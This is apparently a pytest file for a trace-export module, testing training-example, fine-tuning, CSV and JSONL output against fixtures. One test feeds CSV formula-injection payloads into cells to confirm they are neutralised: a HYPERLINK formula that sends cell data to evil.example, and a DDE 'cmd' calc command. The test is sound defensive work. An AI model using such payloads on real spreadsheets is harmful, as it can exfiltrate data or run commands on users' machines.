"""Export formats, field by field against the raw fixture JSON: DashFlow training
examples, OpenAI fine-tuning rows, CSV of node executions, canonical traces as JSONL.

Expected values are computed here from ``json.load`` of the fixtures, never through the
code under test. (DashStream has its own module, test_dashstream.py.)
"""

from __future__ import annotations

import copy
import csv
import io
import json
from pathlib import Path
from typing import Any

import msgspec
import pytest
from rest_framework.test import APIClient

from tests.traces.test_trace import load_raw, minimal_trace, parse
from tests.traces.test_trace import node as step
from traces.formats import (
    CONTENT_TYPE,
    FILE_SUFFIX,
    FORMATS,
    RunEncoder,
    changed_keys,
    encode_run,
    file_header,
    finetune_row,
    training_example,
)
from traces.jsondiff import same
from traces.models import ExportFormat
from traces.trace import ExecutionTrace, NodeExecution, state_hash

FIXTURES = Path(__file__).resolve().parents[3] / "shared" / "fixtures" / "dashflow"


def raw(name: str) -> dict[str, Any]:
    doc: dict[str, Any] = json.loads((FIXTURES / name).read_bytes())
    return doc


def load(name: str) -> ExecutionTrace:
    return ExecutionTrace.from_json((FIXTURES / name).read_bytes())


def export(fmt: str, trace: ExecutionTrace, **kwargs: Any) -> tuple[bytes, int]:
    chunks = list(encode_run(fmt, trace, **kwargs))
    return b"".join(c for c, _ in chunks), sum(n for _, n in chunks)


def jsonl(data: bytes) -> list[Any]:
    assert data.endswith(b"\n") or data == b""
    return [json.loads(line) for line in data.decode().split("\n")[:-1]]


def lines_of(state: Any) -> str:
    """The BootstrapFinetune text of a state, written out independently."""
    if not isinstance(state, dict):
        return state if isinstance(state, str) else compact(state)
    return "\n".join(
        f"{k}: {v if isinstance(v, str) else compact(v)}" for k, v in sorted(state.items())
    )


def examples_of(trace: ExecutionTrace) -> list[dict[str, Any]]:
    """The definition: ``training_example`` of every node execution that has one."""
    return [e for n in trace.nodes_executed if (e := training_example(n)) is not None]


def finetune_rows_of(trace: ExecutionTrace) -> list[dict[str, Any]]:
    """The definition: ``finetune_row`` of every node execution that has one."""
    return [r for n in trace.nodes_executed if (r := finetune_row(n)) is not None]


def compact(value: Any) -> str:
    return json.dumps(value, sort_keys=True, separators=(",", ":"), ensure_ascii=False)


def test_the_formats_are_the_export_model_choices() -> None:
    assert set(FORMATS) == set(ExportFormat.values)
    assert set(FILE_SUFFIX) == set(CONTENT_TYPE) == set(ExportFormat.values)
    assert all(suffix.startswith(".") for suffix in FILE_SUFFIX.values())
    with pytest.raises(ValueError, match="unknown export format 'xml'"):
        list(encode_run("xml", load("research_agent_success.json")))
    with pytest.raises(ValueError, match="unknown export format"):
        file_header("xml")


def test_research_agent_yields_one_example_per_node_with_both_states() -> None:
    doc = raw("research_agent_success.json")
    data, rows = export("training_examples", load("research_agent_success.json"))
    examples = jsonl(data)
    nodes = doc["nodes_executed"]
    assert all(n["state_before"] is not None and n["state_after"] is not None for n in nodes)
    assert rows == len(examples) == len(nodes) == 11
    for example, node in zip(examples, nodes, strict=True):
        assert set(example) == {"data", "input_keys"}
        expected = {f"input_{k}": v for k, v in node["state_before"].items()}
        assert example["input_keys"] == list(expected)
        expected.update({f"output_{k}": v for k, v in node["state_after"].items()})
        expected.update(
            {"_node": node["node"], "_duration_ms": node["duration_ms"], "_success": True}
        )
        assert example["data"] == expected
        assert list(example["data"]) == list(expected)
    assert examples_of(load("research_agent_success.json")) == examples


def test_examples_skip_steps_without_both_states_and_keep_failed_ones() -> None:
    doc = raw("tool_timeout_failure.json")
    examples = examples_of(load("tool_timeout_failure.json"))
    with_both = [
        n for n in doc["nodes_executed"] if n["state_before"] is not None and n["state_after"]
    ]
    assert [e["data"]["_node"] for e in examples] == [n["node"] for n in with_both]
    assert [e["data"]["_success"] for e in examples] == [n["success"] for n in with_both]


def test_a_trace_without_per_node_states_gives_no_examples() -> None:
    trace = load("executor_autopersisted.json")
    assert examples_of(trace) == []
    assert finetune_rows_of(trace) == []
    assert export("training_examples", trace) == (b"", 0)
    assert export("openai_finetune", trace) == (b"", 0)
    # The other formats still describe its node executions.
    assert export("csv", trace)[1] == 2
    assert export("traces_jsonl", trace)[1] == 1


def test_non_object_and_unicode_states_are_one_field_and_stay_utf8() -> None:
    doc = raw("non_object_states.json")
    data, rows = export("training_examples", load("non_object_states.json"))
    # Non-ASCII text is written as UTF-8, not \u escapes.
    assert "東京".encode() in data
    assert b"\\u" not in data
    examples = jsonl(data)
    assert rows == 2
    first, second = doc["nodes_executed"]
    assert examples[0] == {
        "data": {
            "input_state": first["state_before"],
            "output_state": first["state_after"],
            "_node": "tokenize",
            "_duration_ms": first["duration_ms"],
            "_success": True,
        },
        "input_keys": ["input_state"],
    }
    assert examples[1]["data"]["output_state"] == second["state_after"] == 3
    rows_ = finetune_rows_of(load("non_object_states.json"))
    assert rows_[0]["messages"][1]["content"] == compact(["Grüße", "東京"])
    assert rows_[1]["messages"][2]["content"] == "3"


def test_openai_rows_are_exact_key_value_lines() -> None:
    doc = raw("research_agent_success.json")
    data, rows = export("openai_finetune", load("research_agent_success.json"))
    finetune = jsonl(data)
    assert rows == len(finetune) == len(doc["nodes_executed"])
    for row, node in zip(finetune, doc["nodes_executed"], strict=True):
        assert row == {
            "messages": [
                {"role": "system", "content": "You are a helpful AI assistant."},
                {"role": "user", "content": lines_of(node["state_before"])},
                {"role": "assistant", "content": lines_of(node["state_after"])},
            ]
        }
    # Spelled out for the first node: keys sorted, strings bare, the rest compact JSON.
    assert finetune[0]["messages"][1]["content"] == (
        "answer: null\n"
        "documents: []\n"
        "iteration: 0\n"
        'messages: [{"content":"How do Rust lifetimes interact with async functions?",'
        '"role":"user"}]\n'
        "notes: []\n"
        "plan: []\n"
        "question: How do Rust lifetimes interact with async functions?"
    )


def test_verdicts_mark_examples_and_weight_finetune_rows() -> None:
    trace = load("research_agent_success.json")
    verdicts = {0: "good", 3: "bad"}
    examples = jsonl(export("training_examples", trace, steps={0, 3}, verdicts=verdicts)[0])
    assert [(e["data"]["_node"], e["data"]["_verdict"]) for e in examples] == [
        ("planner", "good"),
        ("critic", "bad"),
    ]
    assert all(not k.startswith("input__") for e in examples for k in e["input_keys"])
    rows = jsonl(export("openai_finetune", trace, steps={0, 3}, verdicts=verdicts)[0])
    assert [r["messages"][2]["weight"] for r in rows] == [1, 0]
    unreviewed = jsonl(export("openai_finetune", trace, steps={1})[0])
    assert "weight" not in unreviewed[0]["messages"][2]
    assert "_verdict" not in jsonl(export("training_examples", trace, steps={1})[0])[0]["data"]


def test_csv_has_one_row_per_node_execution() -> None:
    doc = raw("tool_timeout_failure.json")
    header = file_header("csv")
    data, rows = export("csv", load("tool_timeout_failure.json"))
    table = list(csv.reader(io.StringIO((header + data).decode())))
    assert table[0] == [
        "execution_id",
        "index",
        "node",
        "started_at",
        "duration_ms",
        "tokens_used",
        "success",
        "error_message",
        "tools_called",
        "changed_keys",
    ]
    assert rows == len(table) - 1 == len(doc["nodes_executed"])
    for line, node in zip(table[1:], doc["nodes_executed"], strict=True):
        before, after = node["state_before"], node["state_after"]
        changed = []
        if isinstance(before, dict) and isinstance(after, dict):
            changed = [
                k for k in after if k not in before or compact(before[k]) != compact(after[k])
            ]
            changed += [k for k in before if k not in after]
        assert line == [
            doc["execution_id"],
            str(node["index"]),
            node["node"],
            node["started_at"],
            str(node["duration_ms"]),
            str(node["tokens_used"]),
            "true" if node["success"] else "false",
            node["error_message"] or "",
            compact(node["tools_called"]),
            json.dumps(changed, ensure_ascii=False, separators=(",", ":")),
        ]
    assert table[-1][6:8] == ["false", "Timeout: GET https://example.org/doc/4 exceeded 30s"]
    assert table[2][8] == '["web_search","fetch_url"]'


def test_csv_cells_a_spreadsheet_would_evaluate_start_with_a_quote() -> None:
    trace = load("tool_timeout_failure.json")
    nodes = trace.nodes_executed
    nodes[0].node = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    nodes[0].error_message = "@SUM(A1:A9)"
    nodes[1].node = "-1+1"
    nodes[1].error_message = "+cmd|' /C calc'!A0"
    nodes[2].error_message = "\t=1+1"
    nodes[3].error_message = "a = b - c"  # a formula character later on: left alone
    data, _rows = export("csv", trace)
    table = list(csv.reader(io.StringIO(data.decode())))
    assert (table[0][2], table[0][7]) == (
        '\'=HYPERLINK("http://evil.example/?"&A1,"open")',
        "'@SUM(A1:A9)",
    )
    assert (table[1][2], table[1][7]) == ("'-1+1", "'+cmd|' /C calc'!A0")
    assert table[2][7] == "'\t=1+1"
    assert table[3][7] == "a = b - c"
    # Numbers are ours, not text: an index stays a number.
    assert table[0][1] == str(nodes[0].index)


def test_only_csv_has_a_file_header() -> None:
    assert file_header("csv").endswith(b"\r\n")
    assert [f for f in FORMATS if file_header(f)] == ["csv"]


def test_long_runs_come_in_bounded_chunks() -> None:
    trace = load("long_loop_2000.json")
    chunks = list(encode_run("training_examples", trace))
    assert len(chunks) > 1
    assert sum(rows for _, rows in chunks) == 2000
    assert all(chunk.count(b"\n") == rows for chunk, rows in chunks)


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["research_agent_success.json", "non_object_states.json"])
def test_traces_jsonl_line_is_the_api_trace_byte_for_byte(api: APIClient, name: str) -> None:
    from traces import store
    from traces.models import Run

    body = (FIXTURES / name).read_bytes()
    response = api.post("/api/v1/traces", data=body, content_type="application/json")
    assert response.status_code == 201, response.content
    execution_id = raw(name)["execution_id"]
    served = api.get(f"/api/v1/runs/{execution_id}/trace").content
    run = Run.objects.get(execution_id=execution_id)
    data, rows = export("traces_jsonl", store.load_trace(run))
    assert rows == 1
    assert data == served + b"\n"
    assert b"\n" not in served


def test_exporting_leaves_the_callers_garbage_collector_setting_alone() -> None:
    import gc

    trace = load("research_agent_success.json")
    assert gc.isenabled()
    chunks = encode_run("training_examples", trace)
    next(chunks)
    assert gc.isenabled()
    gc.disable()
    try:
        list(chunks)
        assert not gc.isenabled()
    finally:
        gc.enable()


HASH_EVERY_FORMAT = """
import hashlib, sys
from traces.formats import FORMATS, encode_run
from traces.trace import ExecutionTrace
trace = ExecutionTrace.from_json(open(sys.argv[1], "rb").read())
for fmt in FORMATS:
    data = b"".join(chunk for chunk, _ in encode_run(fmt, trace, verdicts={0: "good"}))
    print(fmt, hashlib.sha256(data).hexdigest())
"""


def test_every_format_is_byte_identical_from_one_process_to_the_next() -> None:
    """A rerun export must not produce a different file: nothing may depend on hash
    seeds, map order or the clock."""
    import subprocess
    import sys

    root = Path(__file__).resolve().parents[2]
    runs = [
        subprocess.run(
            [sys.executable, "-c", HASH_EVERY_FORMAT, str(FIXTURES / "tool_timeout_failure.json")],
            cwd=root,
            capture_output=True,
            check=True,
            text=True,
            env={"PYTHONHASHSEED": seed, "PATH": "/usr/bin:/bin"},
        ).stdout
        for seed in ("1", "2")
    ]
    assert runs[0] == runs[1]
    assert len(runs[0].splitlines()) == len(FORMATS)


# --- The row encoders against the definition ----------------------------------------
#
# Export files put training examples and fine-tuning rows together from each state's
# encoded part (formats.RunEncoder); formats.training_example / finetune_row, applied to
# each node execution, stay the definition.
# These tests hold the file to the definition encoded whole, byte for byte.

FIXTURE_NAMES = sorted(p.name for p in FIXTURES.glob("*.json"))
REVIEWED = {0: "good", 1: "bad", 3: "good", 6: "bad"}


def definition(
    fmt: str,
    trace: ExecutionTrace,
    verdicts: dict[int, str] | None = None,
    steps: set[int] | None = None,
) -> bytes:
    """The rows of ``trace`` as the definition has them, each encoded whole."""
    rows: list[dict[str, Any] | None]
    if verdicts is None and steps is None:
        rows = [*(examples_of(trace) if fmt == "training_examples" else finetune_rows_of(trace))]
    else:
        build = training_example if fmt == "training_examples" else finetune_row
        rows = [
            build(n, (verdicts or {}).get(i))
            for i, n in enumerate(trace.nodes_executed)
            if steps is None or i in steps
        ]
    return b"".join(msgspec.json.encode(row) + b"\n" for row in rows if row is not None)


def test_every_fixture_has_states_to_prove_the_encoders_on() -> None:
    assert len(FIXTURE_NAMES) >= 6
    with_rows = [n for n in FIXTURE_NAMES if examples_of(load(n))]
    assert len(with_rows) >= 5


@pytest.mark.parametrize("fmt", ["training_examples", "openai_finetune"])
@pytest.mark.parametrize("name", FIXTURE_NAMES)
def test_rows_are_the_definition_byte_for_byte(fmt: str, name: str) -> None:
    trace = load(name)
    assert export(fmt, trace)[0] == definition(fmt, trace)
    every_other = set(range(0, len(trace.nodes_executed), 2))
    assert export(fmt, trace, steps=every_other, verdicts=REVIEWED)[0] == definition(
        fmt, trace, REVIEWED, every_other
    )


def awkward_states() -> list[Any]:
    """States that are hard to encode piecewise: escapes in keys and values, Unicode,
    floats and big integers, empty and nested containers, states that are not objects."""
    return [
        {
            'quote"key': 'say "hi"\n',
            "back\\slash": "\\",
            "ctrl\x01\x1f": "\t\x00\u2028",
            "東京": "Grüße 🚀",
            "</script>": "<b>&amp;</b>",
            "floats": [0.1, -0.0, 1e300, 2.5e-8, 3.0],
            "ints": [2**63, 2**64 - 1, -(2**63), 0],
            "none": None,
            "nested": {"a": {"b": [{}, [], {"c": True, "d": False}]}},
            "": "empty key",
        },
        {},
        {"only": []},
        "a plain string with \"quotes\" and 'ticks'",
        42,
        -1.5,
        True,
        False,
        [],
        ["a", {"b": 1}],
        {"input_x": 1, "output_y": 2, "_node": "not the node"},
        # Text that looks like a renamed key, where only a renamed top-level key may change.
        {"nested": {"input_a": 1}, "b": 2},
        {"said": 'the "input_ prefix', "n": 1},
        {'"input_q': "a key with the prefix inside", "input_": "input_"},
        {"a": [{"input_": {"input_": "input_"}}]},
    ]


def awkward_trace() -> ExecutionTrace:
    """Every pair of awkward states, some shared as one object between steps (as a
    loaded trace shares them), some equal but separate objects."""
    states = awkward_states()
    nodes = []
    for i, before in enumerate(states):
        for j, after in enumerate(states):
            if (i + j) % 3 == 0:
                after = copy.deepcopy(after)  # equal content, another object
            nodes.append(
                NodeExecution(
                    node=f"n{j % 4}" if j % 5 else 'quote"node \u00e9',
                    duration_ms=(i * 7919 + j) * (2**40 if (i + j) % 4 == 0 else 1),
                    tokens_used=j,
                    state_before=before,
                    state_after=after,
                    success=(i + j) % 2 == 0,
                )
            )
    nodes.append(NodeExecution(node="no-before", duration_ms=1, state_after={"x": 1}))
    nodes.append(NodeExecution(node="no-after", duration_ms=1, state_before={"x": 1}))
    return ExecutionTrace(execution_id="awkward", nodes_executed=nodes)


@pytest.mark.parametrize("fmt", ["training_examples", "openai_finetune"])
def test_awkward_states_are_the_definition_byte_for_byte(fmt: str) -> None:
    trace = awkward_trace()
    verdicts = {i: ("good", "bad")[i % 2] for i in range(0, len(trace.nodes_executed), 3)}
    assert export(fmt, trace)[0] == definition(fmt, trace)
    assert export(fmt, trace, verdicts=verdicts)[0] == definition(fmt, trace, verdicts)
    rows = len(trace.nodes_executed) - 2
    assert export(fmt, trace)[1] == rows


@pytest.mark.parametrize("fmt", ["training_examples", "openai_finetune"])
def test_one_encoder_over_many_runs_sharing_state_objects_writes_each_by_definition(
    fmt: str,
) -> None:
    """An export encodes run after run with one RunEncoder, and the loader hands states
    a run shares with the previous one over as the same objects."""
    first = awkward_trace()
    second = awkward_trace()
    # The second run shares some state objects with the first, as load_trace(reuse=...)
    # makes it; the others are its own.
    for mine, theirs in zip(second.nodes_executed[::2], first.nodes_executed[::2], strict=True):
        mine.state_before = theirs.state_after
    third = load("long_loop_2000.json")
    encoder = RunEncoder(fmt)
    for trace in (first, second, first, third, third, second):
        data = b"".join(chunk for chunk, _ in encoder.encode(trace, verdicts=REVIEWED))
        assert data == definition(fmt, trace, REVIEWED)


def test_a_step_built_by_hand_with_other_types_is_still_encoded_by_the_definition() -> None:
    node = NodeExecution(node="n", duration_ms=True, state_before={"a": 1}, state_after={})
    trace = ExecutionTrace(nodes_executed=[node])
    data, rows = export("training_examples", trace)
    assert data == definition("training_examples", trace)
    assert b'"_duration_ms":true' in data
    assert rows == 1


# --- What a step changed: the CSV's changed_keys, and JSON equality -----------------
#
# A step's state changed when both snapshots exist and differ as JSON (jsondiff.same,
# which the step panel and DashStream's StateDiff use too).


def state_changed(n: NodeExecution) -> bool:
    if n.state_before is None or n.state_after is None:
        return False
    return not same(n.state_before, n.state_after)


def test_state_changed_matches_the_raw_json(fixture_files: list[Path]) -> None:
    for path in fixture_files:
        raw = load_raw(path)
        trace = ExecutionTrace.from_json(path.read_bytes())
        for n, r in zip(trace.nodes_executed, raw["nodes_executed"], strict=True):
            before, after = r["state_before"], r["state_after"]
            expected = before is not None and after is not None and before != after
            assert state_changed(n) is expected, (path.name, r["index"])


def test_state_changed_is_false_unless_both_states_exist() -> None:
    trace = parse(
        minimal_trace(
            [
                step("only_after", state_after={"a": 1}),
                step("only_before", state_before={"a": 1}),
                step("neither"),
                step("same", state_before={"a": 1}, state_after={"a": 1}),
                step("differs", state_before={"a": 1}, state_after={"a": 2}),
                step("list_to_int", state_before=[1], state_after=1),
            ]
        )
    )
    assert [state_changed(n) for n in trace.nodes_executed] == [
        False,
        False,
        False,
        False,
        True,
        True,
    ]


def test_executor_fixture_nodes_without_states_report_no_change(fixtures_dir: Path) -> None:
    trace = ExecutionTrace.from_json((fixtures_dir / "executor_autopersisted.json").read_bytes())
    assert [state_changed(n) for n in trace.nodes_executed] == [False, False]
    assert [changed_keys(n) for n in trace.nodes_executed] == [[], []]


def _expected_changed_keys(before: Any, after: Any) -> set[str]:
    if not isinstance(before, dict) or not isinstance(after, dict):
        return set()
    added = after.keys() - before.keys()
    removed = before.keys() - after.keys()
    modified = {k for k in before.keys() & after.keys() if before[k] != after[k]}
    return added | removed | modified


def test_changed_keys_match_the_raw_json(fixture_files: list[Path]) -> None:
    seen_changes = 0
    for path in fixture_files:
        raw = load_raw(path)
        trace = ExecutionTrace.from_json(path.read_bytes())
        for n, r in zip(trace.nodes_executed, raw["nodes_executed"], strict=True):
            got = changed_keys(n)
            expected = _expected_changed_keys(r["state_before"], r["state_after"])
            assert len(got) == len(set(got)), (path.name, r["index"])
            assert set(got) == expected, (path.name, r["index"])
            seen_changes += len(got)
    assert seen_changes > 0  # the fixtures do change state


def test_changed_keys_lists_added_modified_and_removed_keys() -> None:
    trace = parse(
        minimal_trace(
            [
                step(
                    "n",
                    state_before={"kept": 1, "modified": [1], "removed": "x"},
                    state_after={"kept": 1, "modified": [1, 2], "added": None},
                )
            ]
        )
    )
    changed = changed_keys(trace.nodes_executed[0])
    assert sorted(changed) == ["added", "modified", "removed"]
    assert "kept" not in changed


def test_changed_keys_is_empty_for_non_object_states(fixtures_dir: Path) -> None:
    trace = ExecutionTrace.from_json((fixtures_dir / "non_object_states.json").read_bytes())
    assert all(state_changed(n) for n in trace.nodes_executed)
    assert [changed_keys(n) for n in trace.nodes_executed] == [[], []]
    mixed = NodeExecution(node="m", duration_ms=1, state_before={"a": 1}, state_after=[1])
    assert changed_keys(mixed) == []


def test_state_changed_tells_json_types_apart() -> None:
    # DashFlow compares serde_json Values: 0 and false, 1 and 1.0 are different values
    # (and hash differently, so the store keeps them as two snapshots).
    before = {"done": 0, "score": 1, "flag": 1, "same": "x"}
    after = {"done": False, "score": 1.0, "flag": True, "same": "x"}
    assert state_hash(before) != state_hash(after)
    trace = parse(
        minimal_trace(
            [
                step("typed", state_before=before, state_after=after),
                step("scalar", state_before=0, state_after=False),
            ]
        )
    )
    typed, scalar = trace.nodes_executed
    assert state_changed(typed) is True
    assert sorted(changed_keys(typed)) == ["done", "flag", "score"]
    assert state_changed(scalar) is True
